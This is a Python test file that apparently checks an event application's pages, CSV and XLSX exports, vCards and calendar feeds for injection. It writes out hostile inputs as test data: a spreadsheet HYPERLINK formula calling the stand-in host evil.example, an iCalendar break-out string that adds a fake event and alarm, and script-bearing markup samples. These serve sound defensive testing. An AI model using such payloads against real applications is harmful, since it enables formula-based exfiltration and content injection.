"""What people write is shown as they wrote it, on every page, in every file, and nothing of it runs."""

import csv
import io
import re
import zipfile

import icalendar
import pytest
import vobject
from markupsafe import escape

from core.kit.tables import FORMULA
from tests.house.matrix import World, addresses
from tests.support.hostile import MARK, WORDS, poison, what_is_wrong

READERS = ("organiser", "recruiter", "attendee", "member", "visitor")
"""Between them they see every page."""
FORMULAS = '=HYPERLINK("http://evil.example/"&A1,"x")'
BREAKS = "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nBEGIN:VALARM\nATTACH:http://evil.example"


@pytest.fixture
def poisoned(world: World) -> World:
    """Everything that anybody ever typed is hostile."""
    world.house.write(world.people["organiser"], poison)
    return world


def pages_of(world: World, reader: str):
    """Every page that answers *reader*."""
    browser = world.browser(reader)
    for key, method, path in addresses(world):
        if method == "GET":
            yield key, browser.get(path)


@pytest.mark.parametrize("reader", READERS)
def test_no_page_takes_anybodys_words_for_markup(poisoned: World, reader: str):
    """Security 28, 30, 36, 37: hostile words in every column, and every page of everybody."""
    wrong, shown = {}, 0
    for key, answer in pages_of(poisoned, reader):
        assert answer.status_code < 500, key
        if answer.headers.get("content-type", "").startswith("text/html"):
            found, seen = what_is_wrong(answer.text)
            shown += seen
            if found:
                wrong[key] = found

    assert wrong == {}
    assert shown > 20, "the words are there, as words"


def test_the_reader_of_these_tests_notices_what_a_browser_would_run():
    """Security 28: else the test above shows nothing."""
    for markup in (WORDS, "<p onclick=x>", '<a href="javascript:hostile()">', "<p style=x>", "50337"):
        assert what_is_wrong(markup)[0], markup
    assert what_is_wrong(f"<p title='{escape(WORDS)}'>{escape(WORDS)}")[0] == []


@pytest.mark.parametrize(
    ("reader", "path"),
    [
        ("organiser", "/fairs/{fair}/console/people/exports"),
        ("organiser", "/fairs/{fair}/console/log/exports"),
        ("attendee", "/cards/export.csv"),
        ("recruiter", "/fairs/{fair}/booths/{booth}/leads.csv"),
    ],
)
def test_no_table_that_leaves_the_house_holds_a_formula(world: World, reader: str, path: str):
    """Security 32: as CSV, whatever people are called and whatever they wrote."""
    world.house.write(world.people["organiser"], poison, FORMULAS)
    address = path.format(**world.ids)
    browser = world.browser(reader)
    answer = browser.post(address, data={"kind": "csv"}) if path.endswith("exports") else browser.get(address)

    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert answer.status_code == 200
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if FORMULA.match(cell)] == []
    assert "HYPERLINK" in answer.text


def test_no_spreadsheet_that_leaves_the_house_holds_a_formula(world: World):
    """Security 32."""
    world.house.write(world.people["organiser"], poison, FORMULAS)
    answer = world.browser("recruiter").get("/fairs/{fair}/booths/{booth}/leads.xlsx".format(**world.ids))

    with zipfile.ZipFile(io.BytesIO(answer.content)) as package:
        parts = {name: package.read(name).decode() for name in package.namelist() if name.endswith(".xml")}
    assert "HYPERLINK" in parts["xl/sharedStrings.xml"]
    assert not any("<f>" in part or "<f " in part for name, part in parts.items() if "worksheets" in name)


def test_a_hostile_name_makes_no_second_card(poisoned: World):
    """Security 33: one card each, whose name is the words."""
    browser = poisoned.browser("attendee")
    one = browser.get("/cards/{handover}.vcf".format(**poisoned.ids))
    all_of_them = browser.get("/cards/export.vcf")

    assert len(list(vobject.readComponents(one.text))) == 1
    assert len(re.findall(r"^BEGIN:VCARD", all_of_them.text, re.MULTILINE)) == len(
        list(vobject.readComponents(all_of_them.text))
    )
    assert MARK in one.text


def test_a_hostile_title_makes_no_second_entry_in_a_calendar(world: World):
    """Security 34."""
    path = "/fairs/{fair}/programme.ics".format(**world.ids)
    before = icalendar.Calendar.from_ical(world.browser("visitor").get(path).text)
    world.house.write(world.people["organiser"], poison, BREAKS)
    after = icalendar.Calendar.from_ical(world.browser("visitor").get(path).text)

    kinds = [part.name for part in after.walk()]
    assert kinds == [part.name for part in before.walk()]
    assert "VALARM" not in kinds
